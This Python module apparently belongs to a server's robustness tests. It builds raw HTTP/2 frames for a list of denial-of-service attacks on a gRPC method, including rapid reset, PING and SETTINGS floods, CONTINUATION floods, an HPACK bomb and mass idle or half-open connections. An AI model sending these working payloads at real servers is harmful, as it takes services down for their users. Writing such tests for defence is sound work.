"""What a hostile peer may send: each attack is known by a CVE or an old trick."""

from __future__ import annotations

from dataclasses import dataclass
from itertools import count, repeat
from typing import TYPE_CHECKING

from hpack import Encoder

from ext_authz.wire import frames

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_STREAMS = 1_900
# Sent at once: large enough that the server, not the attacker, is what is short of time.
_PIECE_FRAMES = 500
_RESET = (8).to_bytes(4, "big")


@dataclass(frozen=True)
class Attack:
    name: str
    opening: bytes
    """What each connection sends first."""
    pieces: Callable[[], Iterator[bytes]] | None = None
    """What it sends from then on, for ever; None: it sits there."""
    reads: bool = True
    half_closes: bool = False
    connections: int = 4


def attacks(path: str, message: bytes) -> list[Attack]:
    """All of them, against the unary method at `path`, which takes `message`."""
    target = _Target(path, message)
    return [*_floods(target), *_floods_of_headers(target), *_loiterers(target)]


class _Target:
    """Frames of calls to one method."""

    def __init__(self, path: str, message: bytes) -> None:
        self._path = path
        self._body = b"\0" + len(message).to_bytes(4, "big") + message
        self.greeting = greeting()
        self.block = request_block(path)

    def encode(self, *more: tuple[str, str]) -> bytes:
        return request_block(self._path, *more)

    def headers(self, stream_id: int, block: bytes | None = None) -> bytes:
        return frames.frame(frames.HEADERS, frames.END_HEADERS, stream_id, block or self.block)

    def data(self, stream_id: int) -> bytes:
        return frames.frame(frames.DATA, frames.END_STREAM, stream_id, self._body)

    def call(self, stream_id: int) -> bytes:
        return self.headers(stream_id) + self.data(stream_id)

    def calls(self, number: int) -> bytes:
        return b"".join(self.call(2 * n + 1) for n in range(number))


def greeting(settings: dict[int, int] | None = None) -> bytes:
    return frames.PREFACE + frames.settings(settings or {})


def request_block(path: str, *more: tuple[str, str]) -> bytes:
    encoder = Encoder()
    encoder.header_table_size = 0
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path)]
    fields += [("content-type", "application/grpc"), ("te", "trailers"), *more]
    # Without the announcement that there is no table, which may stand first only.
    return bytes(encoder.encode(fields)).removeprefix(b"\x20")


def _floods(target: _Target) -> Iterator[Attack]:
    start = target.greeting
    opened = start + target.headers(1)

    def reset(n: int) -> bytes:
        return frames.frame(frames.RST_STREAM, 0, n, _RESET)

    def byte_by_byte(n: int) -> bytes:
        body = target.data(n)[frames.HEADER_LENGTH :]
        parts = [frames.frame(frames.DATA, 0, n, body[at : at + 1]) for at in range(len(body))]
        return target.headers(n) + b"".join(parts) + frames.frame(frames.DATA, 1, n)

    waiting = greeting({frames.SETTINGS_INITIAL_WINDOW_SIZE: 0}) + target.calls(_STREAMS)
    windows = b"".join(
        frames.settings({frames.SETTINGS_INITIAL_WINDOW_SIZE: size}) for size in (0, 1, 0, 2)
    )
    ping = frames.frame(frames.PING, 0, 0, b"12345678")
    priority = frames.frame(frames.PRIORITY, 0, 1, b"\0\0\0\3\7")
    empty_data = frames.frame(frames.DATA, 0, 1)
    yield Attack("rapid reset (CVE-2023-44487)", start, _rising(target.headers, reset))
    yield Attack("rapid reset of calls", start, _rising(target.call, reset))
    yield Attack("PING (CVE-2019-9512)", start, _same(ping))
    yield Attack("SETTINGS (CVE-2019-9515)", start, _same(frames.settings({})))
    yield Attack("SETTINGS that move windows", waiting, _same(windows))
    yield Attack("WINDOW_UPDATE of a byte", waiting, _same(frames.window_update(0, 1)))
    yield Attack("WINDOW_UPDATE of streams", waiting, _rising_windows)
    yield Attack("PRIORITY (CVE-2019-9513)", start, _same(priority))
    yield Attack("empty DATA (CVE-2019-9518)", opened, _same(empty_data))
    yield Attack("DATA byte by byte", start, _rising(byte_by_byte))
    yield Attack("unknown frames", start, _same(frames.frame(0xBE, 0, 0)))
    yield Attack("another protocol", b"GET / HTTP/1.1\r\n\r\n")


def _floods_of_headers(target: _Target) -> Iterator[Attack]:
    start = target.greeting
    begun = start + frames.frame(frames.HEADERS, 0, 1, target.block)
    # Fields of the static table, a byte each; then one large entry that is named again and again.
    fields = target.block + b"\x90" * 900
    bomb = target.block + _literal(4_000) + b"\xbe" * 15

    def different(n: int) -> bytes:
        return target.headers(n, target.encode(("x-number", str(n)))) + target.data(n)

    def large(n: int) -> bytes:
        return target.headers(n, target.encode(("x-large", f"{n:012000}")))

    yield Attack(
        "CONTINUATION of a byte (CVE-2024-27983)",
        begun,
        _same(frames.frame(frames.CONTINUATION, 0, 1, b"\x90")),
    )
    yield Attack(
        "CONTINUATION of 16 KB",
        begun,
        _same(frames.frame(frames.CONTINUATION, 0, 1, b"a" * 16_384)),
    )
    yield Attack("blocks of many fields", start, _rising(lambda n: target.headers(n, fields)))
    yield Attack("HPACK bomb (CVE-2016-1544)", start, _rising(lambda n: target.headers(n, bomb)))
    yield Attack("large header blocks", start, _rising(large))
    yield Attack("header blocks that all differ", start, _rising(different))


def _loiterers(target: _Target) -> Iterator[Attack]:
    start = target.greeting
    shut = greeting({frames.SETTINGS_INITIAL_WINDOW_SIZE: 0})
    begun = b"".join(
        target.headers(2 * n + 1) + frames.frame(frames.DATA, 0, 2 * n + 1, b"\0" * 16_384)
        for n in range(200)
    )
    yield Attack("never reads", start, _rising(target.call), reads=False)
    yield Attack("zero windows, answers waiting", shut + target.calls(_STREAMS), connections=20)
    yield Attack("half-closed", start + target.headers(1), half_closes=True, connections=200)
    yield Attack("unfinished preface", frames.PREFACE[:9], connections=200)
    yield Attack("unfinished header block", start + target.headers(1)[:-9], connections=200)
    yield Attack("unfinished requests", start + begun, connections=20)
    yield Attack("idle connections", start, connections=10_000)


def _same(piece: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: repeat(piece * _PIECE_FRAMES)


def _rising(*parts: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """Streams from 3 on, `parts` of each."""

    def pieces() -> Iterator[bytes]:
        for first in count(3, 2 * 50):
            ids = range(first, first + 2 * 50, 2)
            yield b"".join(part(stream_id) for stream_id in ids for part in parts)

    return pieces


def _rising_windows() -> Iterator[bytes]:
    yield from repeat(
        b"".join(frames.window_update(2 * n + 1, 1) for n in range(_STREAMS)),
    )


def _literal(size: int) -> bytes:
    """A field of that size, to be kept in the peer's table."""
    value = b"a" * size
    rest = size - 127
    length = b"\x7f" + bytes((rest & 127 | 128, rest >> 7))
    return b"\x40\x01x" + length + value
